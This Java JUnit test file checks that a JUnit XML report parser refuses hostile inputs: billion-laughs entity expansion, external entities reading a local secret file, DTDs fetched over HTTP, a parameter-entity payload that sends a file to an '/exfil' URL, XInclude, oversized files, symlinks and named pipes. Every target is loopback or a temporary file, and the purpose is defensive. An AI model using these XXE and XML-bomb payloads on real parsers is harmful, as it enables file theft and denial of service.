package dev.repofix.testrun;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.repofix.build.PytestBuild;
import dev.repofix.config.HostEnvironment;
import dev.repofix.exec.ExecResult;
import dev.repofix.workspace.FileIndex;
import dev.repofix.workspace.TreeSnapshot;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Test reports written by a hostile test run: entity expansion, external entities and
 * DTDs over a file or HTTP, XInclude, a report too large to hold, and reports that are
 * links or pipes to something outside the run. Each ends in a refusal or a result within
 * seconds; nothing is fetched, and the secret planted outside never reaches a
 * {@link TestResult} or a message.
 */
class HostileReportTest {
    private static final String SECRET = "TOKEN-9f3c-not-for-tests";
    private static final String REPORT = "<testsuite name=\"pytest\"><testcase classname=\"test_x\" name=\"test_y\">"
            + "<failure message=\"" + SECRET + "\">" + SECRET + "</failure></testcase></testsuite>";

    private final JUnitXmlReportParser parser = new JUnitXmlReportParser();

    @TempDir
    Path dir;

    @TempDir
    Path outside;

    private ServerSocket loopback;

    @BeforeEach
    void listen() throws IOException {
        loopback = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    }

    @AfterEach
    void close() throws IOException {
        loopback.close();
    }

    static Stream<Arguments> doctypes() {
        String laughs = """
                <?xml version="1.0" encoding="%s"?>
                <!DOCTYPE testsuite [
                  <!ENTITY a "ha">
                  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
                  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
                  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
                  <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
                  <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
                  <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
                  <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
                  <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
                ]>
                <testsuite name="x"><testcase classname="X" name="t"><failure message="&i;"/></testcase></testsuite>
                """;
        return Stream.of(
                doctype("a billion laughs", laughs.formatted("UTF-8"), "UTF-8"),
                doctype("a billion laughs in UTF-16", laughs.formatted("UTF-16"), "UTF-16"),
                doctype("an external entity reading a local file", """
                        <!DOCTYPE testsuite [<!ENTITY leak SYSTEM "{secret}">]>
                        <testsuite name="x"><testcase classname="X" name="t"><failure message="&leak;"/></testcase>\
                        </testsuite>""", "UTF-8"),
                doctype("an external entity over HTTP", """
                        <!DOCTYPE testsuite [<!ENTITY leak SYSTEM "{http}/entity">]>
                        <testsuite name="x"><testcase classname="X" name="&leak;"/></testsuite>""", "UTF-8"),
                doctype("an external DTD over HTTP", """
                        <!DOCTYPE testsuite SYSTEM "{http}/evil.dtd">
                        <testsuite name="x"><testcase classname="X" name="t"/></testsuite>""", "UTF-8"),
                doctype("a parameter entity sending a local file over HTTP", """
                        <!DOCTYPE testsuite [
                          <!ENTITY % file SYSTEM "{secret}">
                          <!ENTITY % send SYSTEM "{http}/exfil?%file;">
                          %send;
                        ]>
                        <testsuite name="x"/>""", "UTF-8"));
    }

    private static Arguments doctype(String name, String xml, String charset) {
        return Arguments.of(Named.of(name, xml), charset);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("doctypes")
    void refusesADoctypeFetchingNothingAndLeakingNothing(String template, String charset) throws IOException {
        Path secret = Files.writeString(outside.resolve("secret.txt"), SECRET);
        String xml = template.replace("{secret}", secret.toUri().toString())
                .replace("{http}", "http://127.0.0.1:" + loopback.getLocalPort());
        Path report = Files.write(dir.resolve("TEST-hostile.xml"), xml.getBytes(charset));

        assertTimeoutPreemptively(Duration.ofSeconds(5), () -> assertThatThrownBy(() -> parser.parse(report))
                .isInstanceOf(ReportException.class)
                .hasMessageStartingWith("malformed test report " + report)
                .hasMessageContaining("DOCTYPE")
                .satisfies(e -> assertThat(messages(e)).doesNotContain(SECRET)));
        assertNothingConnected();
    }

    @Test
    void leavesAnXIncludeAsAnElementAndReadsNoFile() throws IOException {
        Path secret = Files.writeString(outside.resolve("secret.txt"), SECRET);
        Path report = write("TEST-xinclude.xml", """
                <testsuite name="x" xmlns:xi="http://www.w3.org/2001/XInclude">
                  <testcase classname="X" name="t">
                    <failure message="boom"><xi:include href="%s" parse="text"/>
                    <xi:include href="http://127.0.0.1:%d/x" parse="text"/></failure>
                  </testcase>
                </testsuite>""".formatted(secret.toUri(), loopback.getLocalPort()));

        List<TestResult> results = parser.parse(report);

        assertThat(results).singleElement().satisfies(r -> {
            assertThat(r.status()).isEqualTo(TestStatus.FAILED);
            assertThat(r.message()).isEqualTo("boom");
            assertThat(r.id() + r.message() + r.trace()).doesNotContain(SECRET);
        });
        assertNothingConnected();
    }

    @Test
    void refusesAReportOfGigabytesWithoutReadingIt() throws IOException {
        Path report = dir.resolve("TEST-huge.xml");
        try (RandomAccessFile file = new RandomAccessFile(report.toFile(), "rw")) {
            file.setLength(3L << 30); // sparse: no disk used, but 3 GiB to whoever reads it
        }

        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> assertThatThrownBy(() -> parser.parse(report))
                .isInstanceOf(ReportException.class)
                .hasMessage("test report " + report + " is larger than 1024 MiB, more than repofix reads; have the tests "
                        + "write their output to files rather than into the report (Surefire: "
                        + "redirectTestOutputToFile), or delete it and rerun, or check the test tool's report settings"));
    }

    @Test
    void refusesAReportThatIsALinkToAFileOutside() throws IOException {
        Path elsewhere = Files.writeString(outside.resolve("report.xml"), REPORT);
        Path report = Files.createSymbolicLink(dir.resolve("TEST-link.xml"), elsewhere);

        assertThatThrownBy(() -> parser.parse(report))
                .isInstanceOf(ReportException.class)
                .hasMessageStartingWith("test report " + report + " is a symbolic link")
                .satisfies(e -> assertThat(messages(e)).doesNotContain(SECRET));
    }

    @Test
    void refusesANamedPipeInsteadOfWaitingForAWriter() throws Exception {
        Path report = dir.resolve("TEST-pipe.xml");
        Assumptions.assumeTrue(mkfifo(report), "mkfifo is needed to make a named pipe");

        assertTimeoutPreemptively(Duration.ofSeconds(5), () -> assertThatThrownBy(() -> parser.parse(report))
                .isInstanceOf(ReportException.class)
                .hasMessageStartingWith("test report " + report + " is not a regular file"));
    }

    @Test
    void theRunnerNeitherDeletesNorReadsAReportThroughAFolderLinkedOut() throws IOException {
        Path elsewhere = Files.createDirectories(outside.resolve("reports"));
        Files.writeString(elsewhere.resolve("pytest-junit.xml"), REPORT);
        List<String> before = TreeSnapshot.of(outside);
        Files.createSymbolicLink(dir.resolve(".repofix-reports"), outside.resolve("reports"));
        TestRunner runner = new TestRunner(command -> new ExecResult(new ExecResult.Outcome.Exited(1), "", Duration.ZERO),
                new HostEnvironment(Map.of("PATH", "/usr/bin:/bin")), ReportParsers.standard(), new StackFrameExtractor());
        PytestBuild build = new PytestBuild();

        assertThatThrownBy(() -> runner.run(dir, build, build.testCommand(dir, null), new FileIndex(dir, List.of()),
                Duration.ofSeconds(5)))
                .isInstanceOf(ReportException.class)
                .hasMessageContaining("leads out of " + dir + " through a symbolic link")
                .satisfies(e -> assertThat(messages(e)).doesNotContain(SECRET));
        assertThat(TreeSnapshot.of(outside)).isEqualTo(before);
    }

    /** The socket had no visitor: the parser opened no connection, not even one it dropped. */
    private void assertNothingConnected() throws IOException {
        loopback.setSoTimeout(200);
        assertThatThrownBy(loopback::accept).isInstanceOf(SocketTimeoutException.class);
    }

    private static String messages(Throwable e) {
        StringBuilder all = new StringBuilder();
        for (Throwable t = e; t != null; t = t.getCause()) {
            all.append(t.getMessage()).append('\n');
        }
        return all.toString();
    }

    private Path write(String name, String content) throws IOException {
        return Files.writeString(dir.resolve(name), content, StandardCharsets.UTF_8);
    }

    private static boolean mkfifo(Path path) throws InterruptedException {
        try {
            Process p = new ProcessBuilder("mkfifo", path.toString()).redirectErrorStream(true).start();
            return p.waitFor(5, TimeUnit.SECONDS) && p.exitValue() == 0;
        } catch (IOException e) {
            return false;
        }
    }
}
